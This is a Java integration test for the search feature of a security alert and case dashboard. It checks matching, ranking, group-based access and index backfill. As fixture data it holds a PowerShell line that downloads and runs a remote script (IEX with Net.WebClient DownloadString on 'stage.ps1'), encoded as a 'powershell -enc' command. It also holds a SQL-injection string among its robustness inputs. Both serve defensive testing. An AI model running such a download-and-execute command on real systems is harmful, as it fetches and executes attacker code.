package io.watchfloor.dashboards.live;

import static io.watchfloor.dashboards.board.Story.ASSET;
import static io.watchfloor.dashboards.board.Story.at;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.watchfloor.dashboards.access.Actor;
import io.watchfloor.dashboards.access.Role;
import io.watchfloor.dashboards.access.people.AccountChange;
import io.watchfloor.dashboards.alerts.board.AlertReadModel;
import io.watchfloor.dashboards.api.ServedBoards;
import io.watchfloor.dashboards.api.Serving;
import io.watchfloor.dashboards.board.Story;
import io.watchfloor.dashboards.wire.json.Json;
import io.watchfloor.ops.cases.CaseEvent;
import io.watchfloor.ops.detection.alert.Alert;
import io.watchfloor.ops.detection.alert.AlertNames;
import io.watchfloor.ops.detection.alert.AlertRule;
import io.watchfloor.ops.platform.rights.Scope;
import io.watchfloor.ops.platform.rights.Tlp;
import io.watchfloor.sigma.language.Level;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Search finds open and closed cases by values in their alerts. */
@ExtendWith(Serving.class)
class SearchIT {

    private static final String SCRIPT =
            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/stage.ps1')";
    private static final String ENCODED =
            Base64.getEncoder().encodeToString(SCRIPT.getBytes(StandardCharsets.UTF_16LE));
    private static final String SHA256 = "c0ffee".repeat(10) + "abcd";

    private static ServedBoards center;

    private Story story;
    private String ann;
    private int opened;

    @BeforeAll
    static void serve(ServedBoards served) {
        center = served;
    }

    @BeforeEach
    void startTheStory() {
        story = new Story(center.jdbi());
        ann = center.token("ann", Role.RESPONDER);
    }

    private String caseWith(int number, Map<String, String> fields) {
        Alert named = alert(fields);
        return story.caseOpens(number, 20, named);
    }

    private Alert alert(Map<String, String> fields) {
        String id = "alert-" + ++opened + "-of-" + System.identityHashCode(story);
        Alert alert = new Alert(
                id,
                opened,
                ASSET,
                new AlertRule("rule-" + opened, "Suspicious download " + opened, Level.HIGH, List.of("T1059.001")),
                Alert.Occurrences.once(at(opened)),
                "r" + opened,
                AlertNames.opened(ASSET, fields),
                null);
        story.raises(alert, "{}");
        return alert;
    }

    @ParameterizedTest
    @CsvSource({
        "203.0.113.66, ip",
        "hxxp://203[.]0[.]113[.]66/stage, url",
        "brandt, user",
        "psexesvc, service",
        "c0ffeec0ffee, hash",
        "evil.exe, process",
        "temp\\evil, process",
        "2001:db8::c2, ip",
        "2001:DB8:0:0:0:0:0:c2, ip",
        "suspicious, title",
        "t1059.001, technique"
    })
    void aClosedCaseIsFoundByWhatItsAlertsName(String word, String type) {
        String id = caseWith(
                12,
                Map.of(
                        "CommandLine",
                        "powershell -enc " + ENCODED,
                        "TargetUserName",
                        "brandt",
                        "ServiceName",
                        "PSEXESVC",
                        "Hashes",
                        "SHA256=" + SHA256,
                        "Image",
                        "C:\\Temp\\evil.exe",
                        "DestinationIp",
                        "2001:db8::c2"));
        story.happens(id, new CaseEvent.Resolved("ann", null, null, at(32)));

        JsonNode hit = only(found(word), "case");
        assertThat(hit.path("id").asText()).isEqualTo(id);
        assertThat(hit.path("work").path("status").asText()).isEqualTo("resolved");
        assertThat(hit.path("found").findValuesAsText("type")).contains(type);
    }

    @Test
    void allWordsMustBeFoundInOneCase() {
        String both = caseWith(1, Map.of("TargetUserName", "brandt", "SourceIp", "192.0.2.9"));
        caseWith(2, Map.of("TargetUserName", "brandt"));
        caseWith(3, Map.of("SourceIp", "192.0.2.9"));
        assertThat(only(found("brandt 192.0.2.9"), "case").path("id").asText()).isEqualTo(both);
        assertThat(found("brandt 192.0.2.77")).isEmpty();
    }

    @Test
    void exactMatchesComeFirstThenOpenCasesThenTheNewest() {
        String older = caseWith(1, Map.of("TargetUserName", "svc"));
        String closed = caseWith(2, Map.of("TargetUserName", "svc"));
        String newer = caseWith(3, Map.of("TargetUserName", "svc"));
        String beginning = caseWith(4, Map.of("TargetUserName", "svcbackup"));
        story.happens(closed, new CaseEvent.Resolved("ann", null, null, at(32)));
        assertThat(ids(found("svc"), "case")).containsExactly(newer, older, closed, beginning);
        assertThat(ids(found("#1"), "case").getFirst()).isEqualTo(older);
        assertThat(hits(found("svc"), "observable").getFirst().path("cases"))
                .extracting(JsonNode::asInt)
                .containsExactly(3, 2, 1);
    }

    @Test
    void anAlertWithoutACaseAnAssetAPersonAndARuleAreFound() {
        Alert alone = alert(Map.of("SourceIp", "192.0.2.50"));
        assertThat(ids(found("192.0.2.50"), "alert")).containsExactly(alone.id());
        assertThat(ids(found(ASSET.substring(ASSET.indexOf(':') + 1)), "asset")).containsExactly(ASSET);
        assertThat(ids(found("ann"), "person")).containsExactly("ann");
        JsonNode rule = Json.parse(center.get(ann, "/api/v1/rules?limit=1").body())
                .path("items")
                .path(0);
        assertThat(ids(found(rule.path("title").asText()), "rule"))
                .contains(rule.path("id").asText());
    }

    /** 6,000 newer matches belong to another group. Changes of groups take effect at once. */
    @Test
    void aReaderOfAGroupFindsWhatIsBehindThousandsOfOthers() {
        String mine = onAsset("host:mine", 1);
        onAsset("host:other", 2);
        center.jdbi().useTransaction(handle -> {
            handle.execute("UPDATE asset_board SET asset_group = 'berlin' WHERE asset = 'host:mine'");
            handle.execute("UPDATE asset_board SET asset_group = 'paris' WHERE asset = 'host:other'");
            // 6,000 more alerts of the other asset, in its case.
            handle.execute("""
                    INSERT INTO alert_board (id, asset, rule, title, level, attack, count, first_seen, last_seen, opened_by, case_id)
                    SELECT 'more' || n, asset, rule, title, level, attack, count, first_seen, last_seen, opened_by, case_id
                    FROM alert_board, generate_series(1, 6000) n WHERE asset = 'host:other'""");
            handle.execute("""
                    INSERT INTO search_alert SELECT s.value, a.seq, s.asset
                    FROM search_alert s JOIN alert_board b ON b.seq = s.alert, alert_board a
                    WHERE b.asset = 'host:other' AND a.id LIKE 'more%'""");
        });
        center.people().ensure("berta", Role.VIEWER);
        String berta = sees("berta", "berlin");
        assertThat(ids(found(berta, "203.0.113.77"), "case")).containsExactly(mine);
        assertThat(more(berta, "203.0.113.77")).isFalse();

        center.jdbi()
                .useHandle(handle ->
                        handle.execute("UPDATE asset_board SET asset_group = 'rome' WHERE asset = 'host:mine'"));
        assertThat(found(berta, "203.0.113.77")).isEmpty();
        assertThat(ids(found(sees("berta", "rome"), "203.0.113.77"), "case")).containsExactly(mine);
    }

    private String onAsset(String asset, int number) {
        Alert alert = new Alert(
                "alert-of-" + asset,
                number,
                asset,
                new AlertRule("rule-1", "Suspicious logon", Level.HIGH, List.of("T1078")),
                Alert.Occurrences.once(at(number)),
                "r" + number,
                AlertNames.opened(asset, Map.of("SourceIp", "203.0.113.77")),
                null);
        story.raises(alert, "{}");
        return story.caseOpens(number, 20, alert);
    }

    /** @return token of a viewer limited to a group */
    private static String sees(String name, String group) {
        center.people()
                .roster()
                .change(
                        name,
                        new AccountChange.Edit(Role.VIEWER, false, Scope.of(List.of(group)), Tlp.RED),
                        null,
                        Actor.named("test"));
        return center.token(name, Role.VIEWER);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "?q=", "?q=a", "?q=ab+c", "?q=..", "?q=%00"})
    void aSearchWithoutWordsIsRefused(String query) {
        assertThat(center.get(ann, "/api/v1/search" + query).statusCode()).isEqualTo(400);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' OR 1=1 --",
                "%%%aa",
                "a\\u0000b",
                "\uD83D\uDE00\uD83D\uDE00",
                "aa\uDBFF\uDFFF",
                "__",
                "(ab|cd)*"
            })
    void noWordBreaksTheSearch(String word) {
        assertThat(center.get(ann, "/api/v1/search?q=" + encoded(word)).statusCode())
                .isIn(200, 400);
    }

    /** As after an upgrade: the read model contains alerts that are not indexed. */
    @Test
    void alertsFromBeforeTheIndexAreIndexedAfterAnUpgrade() {
        List<String> ids = new ArrayList<>();
        for (int i = 1; i <= 5; i++) {
            ids.add(caseWith(i, Map.of("SourceIp", "198.51.100." + i)));
        }
        center.jdbi().useTransaction(handle -> {
            for (String table : List.of("search_alert", "search_term", "search_value")) {
                handle.execute("DELETE FROM " + table);
            }
            handle.execute("UPDATE search_backlog SET below = (SELECT max(seq) + 1 FROM alert_board)");
            assertThat(AlertReadModel.indexOlder(handle, 2)).isTrue();
            assertThat(AlertReadModel.indexOlder(handle, 2)).isTrue();
            assertThat(AlertReadModel.indexOlder(handle, 2)).isFalse();
            assertThat(AlertReadModel.indexOlder(handle, 2)).isFalse();
        });
        for (int i = 1; i <= 5; i++) {
            assertThat(ids(found("198.51.100." + i), "case")).containsExactly(ids.get(i - 1));
        }
    }

    private List<JsonNode> found(String words) {
        return found(ann, words);
    }

    private static List<JsonNode> found(String token, String words) {
        List<JsonNode> hits = new ArrayList<>();
        answer(token, words).path("hits").forEach(hits::add);
        return hits;
    }

    private static boolean more(String token, String words) {
        return answer(token, words).path("more").asBoolean();
    }

    private static JsonNode answer(String token, String words) {
        return Json.parse(
                center.get(token, "/api/v1/search?q=" + encoded(words)).body());
    }

    private static String encoded(String words) {
        return URLEncoder.encode(words, StandardCharsets.UTF_8);
    }

    private static List<JsonNode> hits(List<JsonNode> hits, String kind) {
        return hits.stream()
                .filter(hit -> hit.path("kind").asText().equals(kind))
                .toList();
    }

    private static List<String> ids(List<JsonNode> hits, String kind) {
        return hits(hits, kind).stream().map(hit -> hit.path("id").asText()).toList();
    }

    private static JsonNode only(List<JsonNode> hits, String kind) {
        assertThat(hits(hits, kind)).hasSize(1);
        return hits(hits, kind).getFirst();
    }
}
